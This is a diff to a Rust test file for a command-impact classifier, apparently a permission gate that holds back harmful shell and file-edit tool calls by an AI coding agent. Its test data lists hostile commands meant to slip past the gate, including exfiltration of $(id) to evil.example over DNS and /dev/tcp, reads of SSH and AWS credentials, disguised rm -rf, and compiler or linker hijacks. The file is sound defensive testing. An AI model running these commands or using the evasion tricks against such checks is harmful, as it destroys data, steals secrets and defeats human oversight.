@@ -16,6 +16,7 @@ fn impact(command: &str) -> Impact {
 
 #[test]
 fn commands_are_told_apart() {
+    let mut wrong = Vec::new();
     let read = [
         "ls -la src",
         "cat README.md | head -20",
@@ -42,7 +43,7 @@ fn commands_are_told_apart() {
         "env LC_ALL=C sort a",
     ];
     for command in read {
-        assert_eq!(impact(command), Impact::Read, "{command}");
+        wrong.extend((impact(command) != Impact::Read).then(|| (command, impact(command))));
     }
     let workspace = [
         "cargo test --workspace",
@@ -67,7 +68,7 @@ fn commands_are_told_apart() {
     ];
     for command in workspace {
         let wanted = if command.contains("-exec touch") { Impact::Destructive } else { Impact::Workspace };
-        assert_eq!(impact(command), wanted, "{command}");
+        wrong.extend((impact(command) != wanted).then(|| (command, impact(command))));
     }
     let network = [
         "curl -fsSL https://docs.example/a.json",
@@ -82,7 +83,7 @@ fn commands_are_told_apart() {
         "curl https://a.example -o page.html",
     ];
     for command in network {
-        assert_eq!(impact(command), Impact::Network, "{command}");
+        wrong.extend((impact(command) != Impact::Network).then(|| (command, impact(command))));
     }
     let destructive = [
         "rm -rf build",
@@ -184,10 +185,130 @@ fn commands_are_told_apart() {
         "ls >& x",
     ];
     for command in destructive {
-        assert_eq!(impact(command), Impact::Destructive, "{command}");
+        wrong.extend((impact(command) != Impact::Destructive).then(|| (command, impact(command))));
     }
+    assert!(wrong.is_empty(), "{wrong:#?}");
     assert_eq!(of_words(&["bash", "-lc", "cargo test"], &[]).impact, Impact::Workspace);
     assert_eq!(of_words(&["rm", "a"], &[]).impact, Impact::Destructive);
+}
+
+/// Commands that do more than they look like.
+#[test]
+fn flags_and_words_that_are_not_known_are_the_worst() {
+    let mut wrong = Vec::new();
+    let destructive = [
+        "echo $((echo a); rm -rf src)",
+        "echo $((a))",
+        "ls\\\r; rm a",
+        "cat <<EOF\na\\\nEOF\nrm -rf src\nEOF",
+        "A='$(rm a)'; echo ${A@P}",
+        "test -v 'a[$(rm a)]'",
+        "[[ 'a[$(rm a)]' -eq 0 ]]",
+        "printf -v 'a[$(rm a)]' x",
+        "PS4='$(rm a)'; set -x; ls",
+        "A=-delete; find src $A",
+        "A=' -delete'; find src$A",
+        "A=-delete; find \"$A\"",
+        "echo src -delete | xargs find",
+        "P='1e rm a'; sed \"$P\" README.md",
+        "awk -v a=1 'BEGIN{system(\"rm a\")}'",
+        "sed -e p -e '1e rm a' x",
+        "fd -Hx rm",
+        "fd --exec=rm",
+        "find . -fprint0 F",
+        "cargo tree --config 'build.rustc=\"./x\"'",
+        "go build -toolexec ./x ./...",
+        "cat < /dev/tcp/$(id).evil.example/80",
+        "npm view $(id) --registry=https://evil.example",
+        "cargo search x",
+        "dig $(id).evil.example",
+        "git push -uf origin main",
+        "cd .git && printf x >> config",
+        "sort -uo F a",
+        "sort --outpu=F a",
+        "cp -vt DIR a",
+        "cp -t/home/u/bin x",
+        "cp --target-directory=/home/u a",
+        "cp /tmp/x/AGENTS.md .",
+        "/usr/bin/time --format=x --output=F ls",
+        "python3 -m json.tool in OUT",
+        "eval 'cd /home/u/.config'; cp a b",
+        "CDPATH=/home/u; cd .config; cp a b",
+        "HOME=/tmp ls",
+        "MAKEFLAGS=x make",
+        "export PYTEST_ADDOPTS=-px",
+        "GOFLAGS=-toolexec=x go test",
+        "for PATH in pp; do ls; done",
+        "echo x > .gitconfig",
+        "make CC=./x",
+        "make -E x",
+        "make -f -",
+        "grep -r . ~/.aws",
+        "cat ~/.ss*/id_*",
+        "git diff --no-index /dev/null ~/.ssh/id_rsa",
+        "cat \"$HOME/.ssh/config\"",
+        "for f in a; do find \"$f\"; f=-delete; done",
+        "for f in 'a -delete'; do find $f; done",
+        "pytest --pdbcls=a:b",
+        "cargo clippy -- -C linker=./x",
+        "date 010100002030",
+    ];
+    for command in destructive {
+        wrong.extend((impact(command) != Impact::Destructive).then(|| (command, impact(command))));
+    }
+    for command in [
+        "for f in src/*.py; do sed -n '1,40p' \"$f\"; done",
+        "for f in a b; do sed -n 1,5p $f; done",
+        "git log -5 --stat -- src",
+        "git diff --cached --name-only",
+        "sort -k2,2 -rn a | uniq -c",
+        "awk '{print $1, $2}' a",
+        "ls -la .github/workflows/*.yml",
+        "find src -maxdepth 2 -mtime -7 -type f",
+        "n=$(wc -l < a); echo \"$n\"",
+        "echo $((1 + (2 * 3)))",
+        "command -v cargo",
+        "[ -z \"$x\" ] && echo \"${x:-none}\"",
+        "printf '%s\\n' \"$x\"",
+        "cat <<'EOF'\n`rm` \\\nEOF",
+    ] {
+        wrong.extend((impact(command) != Impact::Read).then(|| (command, impact(command))));
+    }
+    for command in [
+        "RUST_BACKTRACE=1 cargo test -p core -- --nocapture one",
+        "cargo clippy --all-targets -- -D warnings",
+        "go test -v -run TestA ./...",
+        "npm test -- --watchAll=false",
+        "pytest -xvs -k 'a and b' tests/test_a.py::test_b --tb=short",
+        "git commit -m \"$(cat <<'EOF'\nFix\nEOF\n)\"",
+        "cp -r src/*.rs other/ && mv a b",
+        "make -j4 test",
+        "uv run pytest -q",
+    ] {
+        wrong.extend((impact(command) != Impact::Workspace).then(|| (command, impact(command))));
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+#[test]
+fn only_an_edit_of_a_file_is_an_edit() {
+    let work = |name: &str, args: Value| {
+        let tools = json!([{"type": "function", "function": {"name": name}}]);
+        let history =
+            History::new(crate::provenance::tools(Some(&tools)), None).coding(Some(Arc::new(Coding::default())));
+        let call = Call { id: "x".into(), name: name.into(), args };
+        history.decide(&call).arguments.iter().any(|a| a.role == Role::Command)
+    };
+    assert!(work("Edit", json!({"file_path": "a", "old_string": "a", "new_string": "b", "replace_all": true})));
+    assert!(work("str_replace_based_edit_tool", json!({"command": "create", "path": "a", "file_text": "b"})));
+    for (name, args) in [
+        ("mcp__github__create_or_update_file", json!({"owner": "a", "repo": "b", "path": "c", "content": "d"})),
+        ("create_gist", json!({"filename": "a", "content": "b"})),
+        ("write_file", json!({"path": "a", "file": "b", "content": "c"})),
+        ("edit_file", json!({"path": "a", "edits": [{"path": "/etc/x"}]})),
+    ] {
+        assert!(!work(name, args), "{name}");
+    }
 }
 
 #[test]
@@ -276,6 +397,10 @@ fn work_passes_and_harm_waits() {
         ("Bash", json!({"command": 7})),
     ];
     assert_eq!(allowed(user, None, &harm), [false; 12]);
+    assert_eq!(allowed("Update the README.", None, &[bash("git push")]), [false]);
+    let headed = json!({"input": "*** Begin Patch\n *** Add File: /home/u/.bashrc\n+b\n*** End Patch"});
+    assert_eq!(allowed(user, None, &[("apply_patch", headed)]), [false]);
+    assert_eq!(allowed(user, None, &[("Bash", json!({"command": "touch a", "cwd": ".git"}))]), [false]);
     // What the user's words name or ask for.
     assert_eq!(
         allowed(
